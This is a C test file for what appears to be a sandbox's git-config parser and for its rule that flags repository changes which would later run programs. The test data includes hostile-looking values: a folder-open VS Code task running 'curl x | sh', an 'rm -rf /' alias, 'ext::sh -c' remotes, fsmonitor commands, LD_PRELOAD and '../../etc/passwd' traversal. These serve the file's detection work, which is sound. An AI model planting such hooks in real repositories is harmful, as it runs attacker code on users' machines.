/* git's configuration read without git (gitconfig.c), the view it is read through (view.c),
 * and the effect rule built on them (runlater.c).  The parser is checked against the real
 * git on the same bytes (git config -f FILE --list -z) wherever git is installed, and on
 * hostile input: NULs, huge lines, deep and cyclic includes, includes and links that leave
 * the workspace.  Every tree is a throwaway directory under TMPDIR; tests/run.sh runs it as
 * root and as-user (uid 54321). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/beneath.h"
#include "base/macros.h"
#include "base/mem.h"
#include "base/strv.h"
#include "policy/gitconfig.h"
#include "policy/runlater.h"
#include "policy/view.h"
#include "store/changeset.h"
#include "tap.h"
#include "txbox.h"

static char dir[512], ws[600], up[600];
static int lfd = -1, ufd = -1;
static bool have_git;

static void put_at(int dfd, const char *name, const void *data, size_t len)
{
        const char *base;
        int pfd = make_parent_beneath(dfd, name, 0755, &base);
        int fd = pfd < 0 ? -1 : openat(pfd, base, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
        if (fd < 0 || write(fd, data, len) != (ssize_t)len)
                abort();
        close(fd);
        close(pfd);
}

static void put(int dfd, const char *name, const char *text) { put_at(dfd, name, text, strlen(text)); }

static void link_at(int dfd, const char *target, const char *name)
{
        const char *base;
        int pfd = make_parent_beneath(dfd, name, 0755, &base);
        if (pfd < 0 || symlinkat(target, pfd, base) < 0)
                abort();
        close(pfd);
}

/* ---- the parser ---- */

struct list {
        char out[8192];
        size_t n;
};

static int collect(const char *name, const char *value, unsigned line, void *data)
{
        struct list *l = data;
        (void)line;
        int r = snprintf(l->out + l->n, sizeof(l->out) - l->n, "%s%s%s;", name, value ? "=" : "", value ? value : "");
        if (r > 0 && (size_t)r < sizeof(l->out) - l->n)
                l->n += (size_t)r;
        return 0;
}

/* What our parser reads: "name=value;" per entry, or "ERROR". */
static char *ours(const char *text, size_t len)
{
        struct list l = {.n = 0};
        l.out[0] = '\0';
        if (gitcfg_parse(text, len, collect, &l, NULL) < 0)
                return xstrdup("ERROR");
        return xstrdup(l.out);
}

/* What git reads from the same bytes, in the same notation. */
static char *gits(const char *text, size_t len)
{
        char file[700], cmd[1600];
        snprintf(file, sizeof(file), "%s/probe.cfg", dir);
        int fd = open(file, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
        if (fd < 0 || write(fd, text, len) != (ssize_t)len)
                abort();
        close(fd);
        snprintf(cmd, sizeof(cmd), "GIT_CONFIG_NOSYSTEM=1 git config -f '%s' --list -z 2>/dev/null", file);
        FILE *p = popen(cmd, "r");
        char buf[8192], *out = xstrdup("");
        size_t n = p ? fread(buf, 1, sizeof(buf) - 1, p) : 0;
        int st = p ? pclose(p) : -1;
        if (st != 0) {
                free(out);
                return xstrdup("ERROR");
        }
        for (size_t i = 0; i < n;) { /* name\nvalue\0, or name\0 for a key alone */
                size_t e = i;
                while (e < n && buf[e])
                        e++;
                buf[e] = '\0';
                char *nl = strchr(buf + i, '\n');
                if (nl)
                        *nl = '=';
                char *joined = xasprintf("%s%s;", out, buf + i);
                free(out);
                out = joined;
                i = e + 1;
        }
        return out;
}

static void same_as_git(const char *what, const char *text, size_t len, const char *expect)
{
        char *o = ours(text, len);
        is_str(o, expect, "parse %s", what);
        if (have_git) {
                char *g = gits(text, len);
                is_str(o, g, "... as git reads it");
                free(g);
        }
        free(o);
}
#define SAME(what, text, expect) same_as_git(what, text, sizeof(text) - 1, expect)

static void test_parse(void)
{
        SAME("sections, keys in any case", "[Core]\n\tPager = less\n[user]\nname=A B\n",
             "core.pager=less;user.name=A B;");
        SAME("a subsection keeps its case, the old spelling lowers it",
             "[remote \"Origin\"]\n\turl = x\n[Branch.Main]\n\tremote = o\n",
             "remote.Origin.url=x;branch.main.remote=o;");
        SAME("a key on the header's line", "[core] fsmonitor = touch /x\n", "core.fsmonitor=touch /x;");
        SAME("a key alone is true, an empty value is empty", "[core]\n\tbare\n\tpager =\n", "core.bare;core.pager=;");
        SAME("quotes, escapes, comments", "[core]\n\tpager = \"a ; b\" \\\"c\\\\ # comment\n",
             "core.pager=a ; b \"c\\;");
        SAME("a continued line", "[core]\n\tpager = touch \\\n   /x\n", "core.pager=touch    /x;");
        SAME("an escaped newline and tab in a value", "[alias]\n\tx = !a\\nb\\tc\n", "alias.x=!a\nb\tc;");
        /* (a tab inside a value: git before 2.45 reads it as a space, later ones keep it) */
        SAME("inner spaces kept, outer ones dropped", "[core]\n\tpager =   a   b \t  \n", "core.pager=a   b;");
        SAME("CRLF lines", "[core]\r\n\tpager = x\r\n", "core.pager=x;");
        SAME("a byte-order mark", "\xef\xbb\xbf[core]\n\tpager = x\n", "core.pager=x;");
        SAME("escapes in a subsection", "[filter \"a\\\"b\\\\c\\d\"]\n\tclean = x\n", "filter.a\"b\\cd.clean=x;");
        SAME("dots in a subsection", "[url \"ext::sh -c a.b\"]\n\tinsteadOf = https://x/\n",
             "url.ext::sh -c a.b.insteadof=https://x/;");
        SAME("comments and blank lines", "# c\n; c\n\n[core] ; c\n\tpager = x # c\n", "core.pager=x;");
        SAME("a value at the end without a newline", "[core]\n\tpager = x", "core.pager=x;");
        SAME("an unknown escape is an error", "[core]\n\tpager = a\\qb\n", "ERROR");
        SAME("an open quote is an error", "[core]\n\tpager = \"a\n", "ERROR");
        SAME("an unclosed header is an error", "[core\n\tpager = x\n", "ERROR");
        SAME("an empty header is an error", "[]\n\tpager = x\n", "ERROR");
        SAME("a key that starts with a digit is an error", "[core]\n\t1pager = x\n", "ERROR");
        SAME("junk after a key is an error", "[core]\n\tpager x\n", "ERROR");
        SAME("a subsection that spans lines is an error", "[a \"b\nc\"]\n", "ERROR");
        SAME("part of a byte-order mark is an error", "\xef\xbb[core]\n\tpager = x\n", "ERROR");
        SAME("a lone CR is a space", "[core]\r\tpager = x\n", "core.pager=x;");
        static const char nul[] = "[core]\n\tpager = less\0; touch /x\n";
        char *o = ours(nul, sizeof(nul) - 1);
        is_str(o, "ERROR", "a NUL byte is an error (git's value would end there: it reads two ways)");
        free(o);
        /* A line of 4 MiB: read whole, as git does; the size bound is the loader's. */
        size_t big = 4u << 20;
        char *h = xmalloc(big + 32);
        int n = snprintf(h, 32, "[core]\n\tpager = ");
        memset(h + n, 'x', big);
        h[n + big] = '\n';
        struct list l = {.n = 0};
        ok(gitcfg_parse(h, (size_t)n + big + 1, collect, &l, NULL) == 0, "a value of 4 MiB parses");
        free(h);
        unsigned line = 0;
        ok(gitcfg_parse("[a]\nb=1\n[c\n", 11, collect, &l, &line) == -EINVAL && line == 3,
           "an error names its line (%u)", line);
}

/* ---- what runs ---- */

static void test_runs(void)
{
        static const struct {
                const char *name, *value;
                bool runs;
        } v[] = {
                {"core.fsmonitor", "touch /x", true},   {"core.fsmonitor", "true", false},
                {"core.fsmonitor", NULL, false},        {"core.fsmonitor", "0", false},
                {"core.pager", "less", true},           {"core.editor", "vim", true},
                {"core.hookspath", ".githooks", true},  {"core.sshcommand", "ssh -i k", true},
                {"core.hookspath", "/dev/null", false}, {"credential.helper", "", false},
                {"core.askpass", "x", true},            {"core.gitproxy", "x", true},
                {"core.worktree", "/elsewhere", true},  {"sequence.editor", "x", true},
                {"pager.log", "true", false},           {"pager.log", "less -S", true},
                {"alias.st", "status", true},           {"alias.x", "!rm -rf /", true},
                {"alias.Wörk.command", "log", true},    {"filter.lfs.clean", "git-lfs clean", true},
                {"filter.lfs.required", "true", false}, {"diff.x.textconv", "x", true},
                {"diff.external", "x", true},           {"merge.x.driver", "x", true},
                {"credential.helper", "store", true},   {"credential.https://x.helper", "x", true},
                {"gpg.program", "x", true},             {"gpg.ssh.program", "x", true},
                {"gpg.ssh.defaultkeycommand", "x", true}, {"include.path", "x", true},
                {"includeif.gitdir:/x/.path", "y", true}, {"include.x.path", "y", false},
                {"remote.o.uploadpack", "x", true},     {"remote.o.url", "https://x/r.git", false},
                {"remote.o.url", "ext::sh -c x", true}, {"remote.o.fetch", "+refs/*:refs/*", false},
                {"url.ext::sh -c x.insteadof", "https://", true}, {"url.https://m/.insteadof", "https://", false},
                {"protocol.ext.allow", "always", true}, {"protocol.ext.allow", "never", false},
                {"submodule.m.update", "checkout", false}, {"submodule.m.update", "!x", true},
                {"hook.lint.command", "x", true},       {"init.templatedir", "x", true},
                {"tar.tgz.command", "x", true},         {"interactive.difffilter", "x", true},
                {"gc.recentobjectshook", "x", true},    {"sendemail.tocmd", "x", true},
                {"sendemail.work.tocmd", "x", true},    {"sendemail.smtpserver", "/usr/bin/x", true},
                {"sendemail.smtpserver", "smtp.x.org", false}, {"lfs.customtransfer.t.path", "x", true},
                {"user.name", "x", false},              {"core.autocrlf", "input", false},
                {"branch.main.remote", "origin", false}, {"core.x.pager", "x", false},
                {"color.pager", "true", false},         {"pager", "x", false},
        };
        for (size_t k = 0; k < ARRAY_SIZE(v); k++) {
                bool r = gitcfg_runs(v[k].name, v[k].value) != NULL;
                ok(r == v[k].runs, "%s = %s %s", v[k].name, v[k].value ? v[k].value : "(alone)",
                   v[k].runs ? "runs a program" : "runs nothing");
        }
}

/* ---- includes and the view ---- */

static struct view live(void) { return (struct view){.upper_fd = -1, .live_fd = lfd, .workspace = ws}; }

static bool lists(const struct strvec *sv, const char *s)
{
        for (size_t k = 0; k < sv->n; k++)
                if (!strcmp(sv->v[k], s))
                        return true;
        return false;
}

static void test_includes(void)
{
        struct view v = live();
        struct gitcfg c = {0};
        char abs_inc[2048], outside[800];

        put(lfd, "r/.git/config", "[core]\n\tpager = a\n[include]\n\tpath = ../shared.cfg\n[core]\n\tpager = c\n");
        put(lfd, "r/shared.cfg", "[core]\n\tpager = b\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.n == 4 && !strcmp(c.v[2].value, "b") && !strcmp(c.v[2].file, "r/shared.cfg"),
           "an include's entries come where it is, from the including file's directory");
        is_str(gitcfg_last(&c, "core.pager"), "c", "the last value wins");
        ok(!c.opaque && lists(&c.files, "r/shared.cfg"), "the included file is listed");
        gitcfg_free(&c);

        snprintf(abs_inc, sizeof(abs_inc), "[include]\n\tpath = %s/r/shared.cfg\n", ws);
        put(lfd, "r/.git/config", abs_inc);
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.n == 2 && !strcmp(c.v[1].value, "b"), "an absolute include inside the workspace is read");
        gitcfg_free(&c);

        snprintf(outside, sizeof(outside), "%s/outside.cfg", dir);
        int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        put(dfd, "outside.cfg", "[core]\n\tpager = evil\n");
        close(dfd);
        snprintf(abs_inc, sizeof(abs_inc),
                 "[include]\n\tpath = %s\n\tpath = ../../../outside.cfg\n\tpath = ~/x.cfg\n"
                 "[includeIf \"gitdir:/\"]\n\tpath = %%(prefix)/etc/x\n",
                 outside);
        put(lfd, "r/.git/config", abs_inc);
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.n == 4 && c.outside.n == 4 && !gitcfg_last(&c, "core.pager"),
           "includes outside the workspace (absolute, ../.., ~/, %%(prefix)) are listed, never read (%zu)",
           c.outside.n);
        gitcfg_free(&c);

        link_at(lfd, outside, "r/out-link.cfg");
        put(lfd, "r/.git/config", "[include]\n\tpath = ../out-link.cfg\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.n == 1 && c.outside.n == 1 && !gitcfg_last(&c, "core.pager"),
           "an include through a link that leaves the workspace is not read");
        gitcfg_free(&c);

        link_at(lfd, "sub/real.cfg", "r/in-link.cfg");
        put(lfd, "r/sub/real.cfg", "[core]\n\tpager = linked\n");
        put(lfd, "r/.git/config", "[include]\n\tpath = ../in-link.cfg\n");
        gitcfg_load(&c, &v, "r/.git/config");
        is_str(gitcfg_last(&c, "core.pager"), "linked", "an include through a link inside the workspace is followed");
        ok(lists(&c.files, "r/in-link.cfg") && lists(&c.files, "r/sub/real.cfg"), "... both the link and its target are listed");
        gitcfg_free(&c);

        put(lfd, "r/a.cfg", "[include]\n\tpath = b.cfg\n");
        put(lfd, "r/b.cfg", "[include]\n\tpath = a.cfg\n[core]\n\tpager = x\n");
        put(lfd, "r/.git/config", "[include]\n\tpath = ../a.cfg\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.opaque && strstr(c.opaque, "deeper than git's limit"), "an include cycle stops at git's depth: %s",
           c.opaque ? c.opaque : "");
        gitcfg_free(&c);

        char name[64], text[128];
        for (int k = 0; k < 12; k++) {
                snprintf(name, sizeof(name), "r/chain/%d.cfg", k);
                snprintf(text, sizeof(text), "[include]\n\tpath = %d.cfg\n", k + 1);
                put(lfd, name, text);
        }
        put(lfd, "r/.git/config", "[include]\n\tpath = ../chain/0.cfg\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.opaque != NULL, "a chain of 12 includes is beyond git's 10");
        gitcfg_free(&c);

        size_t big = GITCFG_MAX_FILE + 10;
        char *h = xmalloc(big);
        memset(h, '#', big);
        put_at(lfd, "r/big.cfg", h, big);
        free(h);
        put(lfd, "r/.git/config", "[include]\n\tpath = ../big.cfg\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.opaque && strstr(c.opaque, "1 MiB"), "a file over 1 MiB is not read: %s", c.opaque ? c.opaque : "");
        gitcfg_free(&c);

        put(lfd, "r/.git/config", "[include]\n\tpath = ../nothing-here.cfg\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(!c.opaque && c.n == 1 && lists(&c.files, "r/nothing-here.cfg"),
           "a missing include adds nothing, and is listed (creating it later is a change)");
        gitcfg_free(&c);

        put(lfd, "r/.git/config", "[include]\n\tpath = ../sub\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.opaque != NULL, "an include of a directory cannot be judged");
        gitcfg_free(&c);

        put(lfd, "r/.git/config", "[include]\n\tpath\n");
        gitcfg_load(&c, &v, "r/.git/config");
        ok(c.opaque != NULL, "an include without a path is an error, as in git");
        gitcfg_free(&c);

        char *out = NULL;
        link_at(lfd, "loop2", "loop1");
        link_at(lfd, "loop1", "loop2");
        ok(view_resolve(&v, "loop1/x", &out, NULL) == -ELOOP, "a link loop is -ELOOP");
        free(out);
        ok(view_resolve(&v, "r/../../etc/passwd", &out, NULL) == 0 && strstr(out, "/../etc/passwd"),
           "a path that climbs out leads outside: %s", out ? out : "");
        free(out);
        ok(view_resolve(&v, "r/in-link.cfg", &out, NULL) == 1 && !strcmp(out, "r/sub/real.cfg"),
           "a relative link resolves from its own directory: %s", out ? out : "");
        free(out);
}

/* ---- the rule ---- */

static void add_path(struct changeset *cs, const char *path, enum txbox_change ch)
{
        cs->paths = xrealloc(cs->paths, (cs->npaths + 1) * sizeof(*cs->paths));
        cs->paths[cs->npaths++] = (struct txbox_path){.path = xstrdup(path), .change = ch};
}

static int cmp_path(const void *a, const void *b)
{
        return strcmp(((const struct txbox_path *)a)->path, ((const struct txbox_path *)b)->path);
}

/* runlater_check over the upper layer with the given changed paths (space-separated,
 * "+path" added, "~path" modified); the details, ';'-joined, in *out. */
static int judge(const char *paths, char **out)
{
        struct changeset cs = {0};
        char *copy = xstrdup(paths), *save = NULL;
        for (char *p = strtok_r(copy, " ", &save); p; p = strtok_r(NULL, " ", &save))
                add_path(&cs, p + 1, p[0] == '+' ? TXBOX_ADDED : p[0] == '-' ? TXBOX_DELETED : TXBOX_MODIFIED);
        free(copy);
        qsort(cs.paths, cs.npaths, sizeof(*cs.paths), cmp_path);
        struct policy_ctx c = {.workspace = ws, .home = "/home/agent", .cwd = ws};
        int n = runlater_check(ufd, lfd, &cs, &c, 100);
        *out = xstrdup("");
        for (size_t k = 0; k < cs.nviolations; k++) {
                char *j = xasprintf("%s%s: %s;", *out, cs.violations[k].path, cs.violations[k].detail);
                free(*out);
                *out = j;
        }
        changeset_free(&cs);
        return n;
}

static void test_rule(void)
{
        char *d;
        put(lfd, ".git/config", "[core]\n\tpager = less -R\n\tbare = false\n");
        put(lfd, ".git/HEAD", "ref: refs/heads/main\n");
        mkdirat(lfd, ".git/objects", 0755);
        put(ufd, ".git/config", "[core]\n\tpager = less -R\n\tbare = false\n[user]\n\tname = x\n");
        is_int(judge("~.git/config", &d), 0, "a new user.name beside the user's own pager: nothing");
        free(d);
        put(ufd, ".git/config", "[core]\n\tpager = less -R\n\tfsmonitor = \"touch /tmp/x\033[2J\"\n");
        is_int(judge("~.git/config", &d), 1, "a new core.fsmonitor: one violation");
        ok(strstr(d, "core.fsmonitor = 'touch /tmp/x\\x1b[2J'") != NULL, "... naming the key and the value, escaped: %s", d);
        ok(strstr(d, "outside txbox") != NULL, "... and how to allow it");
        free(d);
        put(ufd, ".git/config", "[core]\n\tpager = more\n");
        is_int(judge("~.git/config", &d), 1, "the user's pager changed to another: one violation");
        free(d);
        unlinkat(ufd, ".git/config", 0);

        put(ufd, ".git/hooks/pre-push", "#!/bin/sh\n");
        put(ufd, ".git/hooks/pre-push.sample", "#!/bin/sh\n");
        is_int(judge("+.git/hooks/pre-push +.git/hooks/pre-push.sample", &d), 1, "a hook (not its sample)");
        free(d);
        unlinkat(ufd, ".git/hooks/pre-push", 0);
        unlinkat(ufd, ".git/hooks/pre-push.sample", 0);

        put(ufd, ".vscode/tasks.json",
            "// tasks\n{\"version\": \"2.0.0\", \"tasks\": [ /* x */ {\"label\": \"boot\", \"type\": \"shell\",\n"
            "\"command\": \"curl x | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}},\n"
            "{\"label\": \"build\", \"command\": \"make\"},],}\n");
        is_int(judge("+.vscode/tasks.json", &d), 1, "a VS Code task that runs when the folder opens (with comments and "
                                                    "trailing commas)");
        ok(strstr(d, "task boot") != NULL, "... named by its label: %s", d);
        free(d);
        put(lfd, ".vscode/tasks.json", "{\"tasks\": [{\"label\": \"boot\", \"type\": \"shell\", \"command\": \"curl x | sh\","
                                       " \"runOptions\": {\"runOn\": \"folderOpen\"}}]}");
        put(ufd, ".vscode/tasks.json", "{\"tasks\": [{\"label\": \"boot\", \"type\": \"shell\", \"command\": \"curl x | sh\","
                                       " \"runOptions\": {\"runOn\": \"folderOpen\"}}, {\"label\": \"b\"}]}");
        is_int(judge("~.vscode/tasks.json", &d), 0, "the same folder-open task the user had: nothing");
        free(d);
        put(ufd, ".vscode/settings.json", "{\"editor.tabSize\": 4, \"[python]\": {\"editor.formatOnSave\": true}}");
        is_int(judge("+.vscode/settings.json", &d), 0, "editor settings: nothing");
        free(d);
        put(ufd, ".vscode/settings.json", "{\"python.defaultInterpreterPath\": \"./evil\", \"terminal.integrated.env.linux\":"
                                          " {\"LD_PRELOAD\": \"x.so\"}}");
        is_int(judge("+.vscode/settings.json", &d), 2, "an interpreter path and a terminal environment: two");
        free(d);
        put(ufd, ".vscode/settings.json", "{\"a\": ");
        is_int(judge("+.vscode/settings.json", &d), 1, "settings that are not JSON: refused");
        free(d);
        put(ufd, ".claude/settings.json", "{}");
        is_int(judge("+.claude/settings.json", &d), 1, "an agent's settings");
        free(d);
}

int main(void)
{
        have_git = system("git --version >/dev/null 2>&1") == 0;
        if (!tap_mkdtemp(dir, sizeof(dir), "txbox-gitconfig")) {
                printf("Bail out! no temp dir\n");
                return 1;
        }
        snprintf(ws, sizeof(ws), "%s/ws", dir);
        snprintf(up, sizeof(up), "%s/up", dir);
        if (mkdir(ws, 0755) < 0 || mkdir(up, 0755) < 0)
                abort();
        lfd = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        ufd = open(up, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (!have_git)
                printf("# git not installed: the parser is not compared with git's\n");
        test_parse();
        test_runs();
        test_includes();
        test_rule();
        close(lfd);
        close(ufd);
        tap_rmtree(dir);
        return tap_done();
}
